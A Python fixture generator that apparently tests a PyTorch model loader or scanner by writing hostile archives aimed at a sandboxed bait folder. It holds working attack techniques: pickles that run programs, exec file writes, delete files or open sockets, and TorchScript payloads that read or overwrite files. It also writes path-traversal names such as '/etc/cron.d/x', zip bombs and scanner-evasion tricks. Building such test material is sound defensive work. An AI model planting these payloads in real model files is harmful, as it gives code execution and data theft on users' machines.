"""Writes archives that try to write, read, start or reach something; none is kept as a file in the repository.

An attack aims at four things of a `Bait`: a file that must not change, a file that must not be read, a program that
must not run, and a port that nobody must reach. All four lie in one folder that a test can watch.
"""

import itertools
import json
import pickle
import random
import warnings
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

Members = list[tuple[str, bytes]]
SECRET = b"the secret of the user\n" * 64


@dataclass(frozen=True)
class Bait:
    """What attacks aim at."""

    victim: Path
    secret: Path
    program: Path
    port: int

    @classmethod
    def lay(cls, folder: Path, port: int = 9) -> "Bait":
        """Lay a bait in a folder of its own."""
        folder.mkdir(parents=True)
        bait = cls(folder / "victim", folder / "secret", folder / "program", port)
        bait.victim.write_bytes(SECRET)
        bait.secret.write_bytes(SECRET)
        bait.program.write_text(f"#!/bin/sh\necho x > {folder}/started\n", encoding="utf-8")
        bait.program.chmod(0o700)
        return bait


@dataclass(frozen=True)
class Hostile:
    """One archive; ``loadable`` says that PyTorch itself would load it and run the attack."""

    name: str
    path: Path
    kind: str
    loadable: bool = False


def write_zip(path: Path, members: Members, compression: int = zipfile.ZIP_STORED) -> Path:
    """Write members in this order, under any name, also twice."""
    with warnings.catch_warnings(), zipfile.ZipFile(path, "w", compression, compresslevel=1) as archive:
        warnings.simplefilter("ignore")  # about names that are there twice
        for name, content in members:
            info = zipfile.ZipInfo("x")
            info.filename, info.compress_type = name, compression  # set afterwards: ZipInfo would repair the name
            archive.writestr(info, content)
    return path


def scripted(folder: Path) -> Members:
    """The members of a harmless TorchScript module with ``__setstate__``, as PyTorch writes them."""
    import torch

    source = folder / "scripted_source.py"
    source.write_text(
        "import torch\nfrom typing import Tuple\nfrom torch import Tensor\n"
        "class Net(torch.nn.Module):\n"
        "    def __init__(self):\n        super().__init__()\n        self.w = torch.zeros(3)\n"
        "    @torch.jit.export\n    def __getstate__(self) -> Tuple[Tensor, bool]:\n"
        "        return (self.w, self.training)\n"
        "    @torch.jit.export\n    def __setstate__(self, state: Tuple[Tensor, bool]) -> None:\n"
        "        self.w = state[0]\n        self.training = state[1]\n"
        "    def forward(self, x: Tensor) -> Tensor:\n        return x + self.w\n",
        encoding="utf-8",
    )
    import importlib.util

    spec = importlib.util.spec_from_file_location("scripted_source", source)
    assert spec is not None
    assert spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        torch.jit.script(module.Net()).save(str(folder / "net.pt"))
    with zipfile.ZipFile(folder / "net.pt") as archive:
        return [(name, archive.read(name)) for name in archive.namelist()]


def payloads(bait: Bait) -> dict[str, str]:
    """Lines of TorchScript that reach outside, by what they do. PyTorch leaves out a call whose result nobody keeps."""
    write, secret = str(bait.victim), str(bait.secret)
    return {
        "save": f'torch.save((state)[0], "{write}")',
        "save-spaces": f'torch . save((state)[0], "{write}")',
        "ops-save": f'ops.aten.save((state)[0], "{write}")',
        "save-new": f'torch.save((state)[0], "{write}.new")',
        "read": f'self.w = torch.from_file("{secret}", False, 4)',
        "read-shared": f'self.w = torch.from_file("{secret}", True, 4)',
        "ops-read": f'self.w = ops.aten.from_file("{secret}", False, 4)',
        "write-shared": f'self.w = torch.fill_(torch.from_file("{write}", True, 4), 1.0)',
        "image-write": f'ops.image.write_file("{write}", (state)[0])',
        "image-read": f'self.w = ops.image.read_file("{secret}")',
        "print": 'print("\\x1b]0;owned\\x07")',
        "memory": "self.w = torch.zeros([1099511627776])",
        "rpc": '_9 = ops.prim.rpc_sync("worker", "f")',
    }


def with_payload(members: Members, line: str) -> Members:
    """The module with a line in its ``__setstate__``."""
    return [(name, _into_setstate(content, line) if name.endswith(".py") else content) for name, content in members]


def _into_setstate(code: bytes, line: str) -> bytes:
    before, mark, after = code.decode().partition("    self.w = (state)[0]\n")
    assert mark
    return f"{before}    {line}\n{mark}{after}".encode()


def _cases(word: str) -> list[str]:
    """A word in all mixtures of case but its own."""
    mixed = map("".join, itertools.product(*((letter, letter.upper()) for letter in word)))
    return [text for text in mixed if text != word]


def torchscript_cases(members: Members, bait: Bait) -> Iterator[tuple[str, Members]]:
    """Code members under names that only PyTorch takes for code."""
    evil = with_payload(members, payloads(bait)["save"])
    top = members[0][0].partition("/")[0]
    decoy = (f"{top}/code/__torch__/decoy.py", b"class Decoy(Module):\n  __parameters__ = []\n")
    for folder, suffix in itertools.product(["code", *_cases("code")], ["py", *_cases("py")]):
        if (folder, suffix) != ("code", "py"):
            renamed = [(n.replace("/code/", f"/{folder}/").removesuffix(".py") + f".{suffix}", c) if n.endswith(".py")
                       else (n, c) for n, c in evil]  # fmt: skip
            yield f"case-{folder}-{suffix}", [decoy, *renamed]


def torchscript_pairs(members: Members, bait: Bait) -> Iterator[tuple[str, Members]]:
    """Two members of one name, or of names that differ in case, in both orders."""
    code = next(name for name, _ in members if name.endswith(".py"))
    rest, good = [m for m in members if m[0] != code], dict(members)[code]
    good = good.replace(b"__setstate__", b"__setstatf__").replace(b"__getstate__", b"__getstatf__")
    other_names = {"same": code, "upper": code.replace("/code/", "/CODE/"), "suffix": code[:-2] + "PY"}
    for (how, other), kind in itertools.product(other_names.items(), ("save", "save-new", "read", "memory")):
        evil = _into_setstate(dict(members)[code], payloads(bait)[kind])
        yield f"pair-{how}-{kind}-evil-first", [*rest, (other, evil), (code, good)]
        yield f"pair-{how}-{kind}-evil-last", [*rest, (code, good), (other, evil)]


def torchscript_plain(members: Members, bait: Bait) -> Iterator[tuple[str, Members]]:
    """Attacks in the open, and in a second folder of the archive."""
    for name, line in payloads(bait).items():
        yield f"plain-{name}", with_payload(members, line)
    evil = with_payload(members, payloads(bait)["save"])
    yield "second-folder-first", [(f"other/{n.partition('/')[2]}", c) for n, c in evil] + members
    yield "second-folder-last", members + [(f"other/{n.partition('/')[2]}", c) for n, c in evil]
    yield "code-in-extra", [*members, ("net/extra/code.py", evil[0][1])]


def traversals(members: Members) -> Iterator[tuple[str, Members]]:
    """Members whose names lead out of the archive."""
    names = ("../x.py", "../../../../tmp/x", "/etc/cron.d/x", "net/../../x", "net/code/../../x.py", "net/./code/x.py",
             "C:\\x.py", "net\\code\\x.py", "net//code//x.py", "net/code/x.py\0.txt", "~/x", "net/code/..")  # fmt: skip
    for position, name in enumerate(names):
        yield f"path-{position}-first", [(name, b"x"), *members]
        yield f"path-{position}-last", [*members, (name, b"x")]


class Runs:
    """Runs a function when it is unpickled."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self.reduced = function, arguments

    def __reduce__(self) -> Any:
        return self.reduced


def pickles(bait: Bait) -> Iterator[tuple[str, bytes]]:
    """Pickles that run a program, write, read or connect."""
    import os
    import socket
    import subprocess

    attacks = {
        "system": Runs(os.system, str(bait.program)),
        "run": Runs(subprocess.run, [str(bait.program)]),
        "write": Runs(exec, f"open({str(bait.victim)!r}, 'w').write('x')"),
        "read": Runs(exec, f"open({str(bait.secret)!r}).read()"),
        "remove": Runs(os.unlink, str(bait.victim)),
        "connect": Runs(socket.create_connection, ("127.0.0.1", bait.port)),
    }
    for (name, attack), protocol in itertools.product(attacks.items(), range(6)):
        yield f"{name}-{protocol}", pickle.dumps(attack, protocol)


def pt2_members(program: bytes = b'{"schema_version": {"major": 8}}') -> Members:
    """The members of a ``.pt2`` archive."""
    return [("net/models/model.json", program), ("net/archive_format", b"pt2"), ("net/archive_version", b"0")]


def pt2_archives(bait: Bait) -> Iterator[tuple[str, Members]]:
    """Programs with pickles beside them, names in odd cases, two programs, and JSON without end."""
    evil = dict(pickles(bait))
    for place in ("data/sample_inputs/model.pt", "data/constants/x.pt", "data/weights/w", "extra/x.pkl"):
        for kind in ("system-2", "write-4"):
            yield f"pickle-{place.replace('/', '-')}-{kind}", [*pt2_members(), (f"net/{place}", evil[kind])]
    for folder in random.Random(0).sample(_cases("models"), 6):
        yield f"case-{folder}", [*pt2_members(), (f"net/{folder}/model.json", b"{}")]
    yield "twice", pt2_members() + pt2_members(b"{}")
    yield "suffix", [*pt2_members(), ("net/models/other.JSON", b"{}")]
    yield "deep", pt2_members(b"[" * 500_000)
    yield "long", pt2_members(b'{"a":' * 200_000 + b"1" + b"}" * 200_000)
    yield "numbers", pt2_members(b"1" * 5_000_000)
    paths = {"config": {"w": {"path_name": f"../../../..{bait.secret}", "is_param": True}}}
    yield "weights", [*pt2_members(), ("net/data/weights/model_weights_config.json", json.dumps(paths).encode())]


def bombs(members: Members) -> Iterator[tuple[str, Members]]:
    """Archives that unpack to far more than their size."""
    zeros = bytes(1 << 27)
    yield "code", [*members, ("net/code/__torch__/big.py", zeros)]
    yield "data", [*members, *((f"net/data/{n}", zeros) for n in range(9, 12))]
    yield "model", [("net/models/model.json", zeros), ("net/archive_format", b"pt2")]
    yield "pickle", [("net/data.pkl", zeros), ("net/code/x.py", b"x"), ("net/constants.pkl", zeros)]


def make_all(folder: Path, bait: Bait, *, with_bombs: bool = True) -> list[Hostile]:
    """Write all archives below a folder; bombs take seconds."""
    folder.mkdir(parents=True, exist_ok=True)
    members, made = scripted(folder), list[Hostile]()

    def add(
        kind: str, name: str, suffix: str, content: Members | bytes, *, loadable: bool = False, compression: int = 0
    ) -> None:
        path = folder / f"{kind}-{name}{suffix}"
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            write_zip(path, content, compression)
        made.append(Hostile(f"{kind}-{name}", path, kind, loadable))

    for maker in (torchscript_cases, torchscript_pairs, torchscript_plain):
        for name, archive in maker(members, bait):
            add("script", name, ".pt", archive, loadable=True)
    for name, archive in traversals(members):
        add("script", name, ".pt", archive, loadable=True)
    for name, archive in traversals(pt2_members()):
        add("pt2", name, ".pt2", archive)
    for name, archive in pt2_archives(bait):
        add("pt2", name, ".pt2", archive)
    suffixes = itertools.cycle((".pt", ".pth", ".bin", ".onnx", ".pt2", ".model"))
    for (name, content), suffix in zip(pickles(bait), suffixes):
        add("pickle", name, suffix, content)
        if name.endswith("2"):
            inside = [("net/data.pkl", content), ("net/version", b"3")]
            add("pickle", f"{name}-zipped", ".pt", inside)
            for place in ("data.pkl", "constants.pkl"):
                replaced = [(n, content if n.endswith(f"/{place}") else c) for n, c in members]
                add("script", f"{name}-{place}", ".pt", replaced, loadable=True)
            debug = [(n, content if n.endswith("debug_pkl") else c) for n, c in members]
            add("script", f"{name}-debug", ".pt", debug, loadable=True)
    for name, archive in bombs(members) if with_bombs else ():
        add("bomb", name, ".pt2" if name == "model" else ".pt", archive, compression=zipfile.ZIP_DEFLATED)
    whole = write_zip(folder / "whole.pt", with_payload(members, payloads(bait)["save"])).read_bytes()
    harmless = write_zip(folder / "harmless.pt", members).read_bytes()
    for name, content in {
        "before": b"#!/bin/sh\n" + whole, "after": whole + b"x" * 50, "two": harmless + whole,
        "two-last": whole + harmless, "cut": whole[:-30],
        "nested": write_zip(folder / "nested.zip", [("net/model.pt", whole)]).read_bytes(),
    }.items():  # fmt: skip
        add("framed", name, ".pt", content, loadable=True)
    return made
